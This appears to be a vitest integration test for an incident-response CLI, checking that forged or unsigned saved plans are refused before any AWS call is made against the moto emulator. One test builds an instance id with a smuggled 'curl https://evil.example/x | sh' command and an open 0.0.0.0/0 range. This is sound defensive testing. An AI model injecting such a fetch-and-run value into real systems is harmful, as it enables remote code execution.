/**
 * A saved plan is input (issue 19): the attack from the issue against moto. A plan saved by
 * `evidence plan --out`, edited to admit 0.0.0.0/0 and to carry an instance id with shell
 * characters, its digest recomputed with the library's own `planDigest`, is refused by `apply`
 * (exit 2, naming the step and the field) before any call: a counting proxy in front of moto sees
 * none, and the account has no isolation group and no holdfast tag.
 */
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { DescribeInstancesCommand, DescribeSecurityGroupsCommand, EC2Client } from '@aws-sdk/client-ec2';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { CapturePlan } from '../../src/core/types.js';
import { seedAws, type SeededAws } from '../../src/drill/client.js';
import { startFaultProxy, type FaultProxy } from '../../src/emulators/fault-proxy.js';
import { motoPython } from '../../src/emulators/moto.js';
import { planDigest } from '../../src/engine/plan.js';
import { motoEnv, testIncident } from '../support/aws.js';
import { runCli } from '../support/cli.js';

const VALIDATE = fileURLToPath(new URL('../conformance/validate_schemas.py', import.meta.url));
const SCHEMAS = fileURLToPath(new URL('../../schemas', import.meta.url));

/** schemas/plan.schema.json through the Python validator (jsonschema, in the moto venv). */
async function validatePlans(...files: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(motoPython(), [VALIDATE, SCHEMAS, '--plan', ...files], {
      cwd,
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code?: number; stdout?: string; stderr?: string };
    return { code: e.code ?? 1, stdout: e.stdout ?? '', stderr: e.stderr ?? '' };
  }
}

let seeded: SeededAws;
let cwd: string;
let incident: string;
let proxy: FaultProxy;
const env = (extra: NodeJS.ProcessEnv = {}) => motoEnv({ HOLDFAST_STATE_DIR: join(cwd, 'state'), ...extra });

beforeAll(async () => {
  seeded = await seedAws(inject('motoEndpoint'), Math.random().toString(16).slice(2, 8));
  cwd = mkdtempSync(join(tmpdir(), 'hf-saved-'));
  incident = testIncident('SAVED');
  proxy = await startFaultProxy(inject('motoEndpoint'));
  const planned = await runCli([...planArgs(), '--out', 'plan.json'], { cwd, env: env() });
  expect(planned.code, planned.stderr).toBe(0);
});

afterAll(async () => proxy?.close());

/** `evidence plan` for the seeded instance into the local store `es`. */
const planArgs = () => [
  'plan',
  '--incident',
  incident,
  '--instance',
  seeded.instanceId,
  '--forensic-cidr',
  '198.51.100.7/32',
  '--store',
  'es',
];

/** The saved plan, edited with the library's own digest function as an attacker would. */
function forge(change: (plan: CapturePlan) => void, file: string): void {
  const plan = JSON.parse(readFileSync(join(cwd, 'plan.json'), 'utf8')) as CapturePlan;
  change(plan);
  plan.digest = planDigest(plan);
  writeFileSync(join(cwd, file), JSON.stringify(plan, null, 2));
}

describe('evidence apply checks a saved plan like fresh input', () => {
  it('a real saved plan follows schemas/plan.schema.json; a broken one does not', async () => {
    const valid = await validatePlans('plan.json');
    expect(valid.stdout).toContain('plan: 1 valid');
    expect(valid.code, valid.stderr).toBe(0);
    forge((plan) => {
      plan.steps[0]!.phase = 'destroy' as never;
      (plan.case as unknown as Record<string, unknown>).shell = 'sh';
      delete (plan as Partial<CapturePlan>).waiting;
    }, 'broken.json');
    const broken = await validatePlans('broken.json');
    expect(broken.code).toBe(1);
    expect(broken.stderr).toMatch(/INVALID plan broken.json: \$\.steps\[0\]\.phase/);
    expect(broken.stderr).toMatch(/INVALID plan broken.json: \$\.case: Additional properties/);
    expect(broken.stderr).toMatch(/INVALID plan broken.json: \$: 'waiting' is a required property/);
  });

  it('the plan as saved passes the checks (apply --dry-run reaches the cloud and changes nothing)', async () => {
    const dry = await runCli(['apply', 'plan.json', '--dry-run'], { cwd, env: env() });
    expect(dry.stderr).not.toMatch(/bad input/);
    expect(dry.code, dry.stderr).toBe(0);
  });

  it('0.0.0.0/0 and a shell-laden instance id, digest recomputed: exit 2 naming step and field, no call sent', async () => {
    const evil = `${seeded.instanceId}; curl https://evil.example/x | sh`;
    let isolate = -1;
    forge((plan) => {
      plan.case.forensicCidrs = ['0.0.0.0/0'];
      isolate = plan.steps.findIndex((s) => s.id === `ec2:isolate/${seeded.instanceId}`);
      plan.steps[isolate]!.inputs.instanceId = evil;
    }, 'forged.json');
    expect(isolate).toBeGreaterThan(0);
    const calls = proxy.calls.length;
    const applied = await runCli(['apply', 'forged.json'], { cwd, env: env({ AWS_ENDPOINT_URL: proxy.endpoint }) });
    expect(applied.code).toBe(2);
    // The case is refused first (the steps of an edited case are not worth reading).
    expect(applied.stderr).toContain('plan forged.json: case.forensicCidrs[0] "0.0.0.0/0" is wider than /16');

    // The case as saved, only the step edited: the step and its field are named.
    forge((plan) => {
      plan.steps[isolate]!.inputs.instanceId = evil;
    }, 'forged-step.json');
    const step = await runCli(['apply', 'forged-step.json'], { cwd, env: env({ AWS_ENDPOINT_URL: proxy.endpoint }) });
    expect(step.code).toBe(2);
    expect(step.stderr).toContain(
      `plan forged-step.json: steps[${isolate}].inputs.instanceId: step "ec2:isolate/${seeded.instanceId}": is ${JSON.stringify(evil)}`,
    );

    // Nothing reached moto, nothing was created or tagged, no journal was opened.
    expect(proxy.calls.slice(calls)).toEqual([]);
    const ec2 = new EC2Client({
      endpoint: inject('motoEndpoint'),
      region: 'us-east-1',
      credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' },
    });
    const groups = await ec2.send(
      new DescribeSecurityGroupsCommand({ Filters: [{ Name: 'vpc-id', Values: [seeded.vpcId] }] }),
    );
    expect((groups.SecurityGroups ?? []).filter((g) => /holdfast/i.test(`${g.GroupName} ${g.Description}`))).toEqual(
      [],
    );
    const described = await ec2.send(new DescribeInstancesCommand({ InstanceIds: [seeded.instanceId] }));
    const tags = described.Reservations?.[0]?.Instances?.[0]?.Tags ?? [];
    expect(tags.filter((t) => t.Key?.startsWith('holdfast:'))).toEqual([]);
    expect(existsSync(join(cwd, 'state', incident))).toBe(false);
    expect(existsSync(join(cwd, 'es'))).toBe(false);
  });
});

describe('evidence plan --sign-key and apply --require-signed', () => {
  it('the signed plan applies with the reviewer pinned; unsigned, edited or re-signed plans do not, before any call', async () => {
    for (const name of ['reviewer', 'attacker'])
      expect((await runCli(['keygen', '--out', name], { cwd, env: env() })).code).toBe(0);
    const args = planArgs();
    const signed = await runCli([...args, '--out', 'signed.json', '--sign-key', 'reviewer'], {
      cwd,
      env: env(),
    });
    expect(signed.code, signed.stderr).toBe(0);
    expect(signed.stderr).toMatch(/plan signed by local:[0-9a-f]{16}/);
    const valid = await validatePlans('signed.json');
    expect(valid.code, valid.stderr).toBe(0);

    const pinned = ['--require-signed', '--public-key', 'reviewer.pub'];
    const ok = await runCli(['apply', 'signed.json', ...pinned, '--dry-run'], { cwd, env: env() });
    expect(ok.stderr).toMatch(/ed25519 signature by local:[0-9a-f]{16} \(key [0-9a-f]{16}…\) is valid/);
    expect(ok.code, ok.stderr).toBe(0);

    const calls = proxy.calls.length;
    const viaProxy = env({ AWS_ENDPOINT_URL: proxy.endpoint });
    const unsigned = await runCli(['apply', 'plan.json', ...pinned], { cwd, env: viaProxy });
    expect(unsigned.stderr).toContain('plan plan.json: signature: the plan is not signed');
    expect(unsigned.code).toBe(2);

    // Edited, its digest recomputed, the reviewer's signature kept.
    const plan = JSON.parse(readFileSync(join(cwd, 'signed.json'), 'utf8')) as CapturePlan;
    plan.limitations = [];
    plan.digest = planDigest(plan);
    writeFileSync(join(cwd, 'edited.json'), JSON.stringify(plan));
    const edited = await runCli(['apply', 'edited.json'], { cwd, env: viaProxy });
    expect(edited.stderr).toContain('plan edited.json: signature: signature is for a different plan digest');
    expect(edited.code).toBe(2);

    // Re-signed with the attacker's own key: only the pin tells.
    const resigned = await runCli([...args, '--out', 'resigned.json', '--sign-key', 'attacker'], {
      cwd,
      env: env(),
    });
    expect(resigned.code).toBe(0);
    const other = await runCli(['apply', 'resigned.json', ...pinned], { cwd, env: viaProxy });
    expect(other.stderr).toContain(
      'plan resigned.json: signature: signed with a key other than the pinned --public-key',
    );
    expect(other.code).toBe(2);
    expect(proxy.calls.slice(calls)).toEqual([]);

    const lone = await runCli(['apply', 'signed.json', '--public-key', 'reviewer.pub'], { cwd, env: viaProxy });
    expect(lone.stderr).toContain('--public-key pins the plan signer: give --require-signed too');
    expect(lone.code).toBe(2);
  });
});
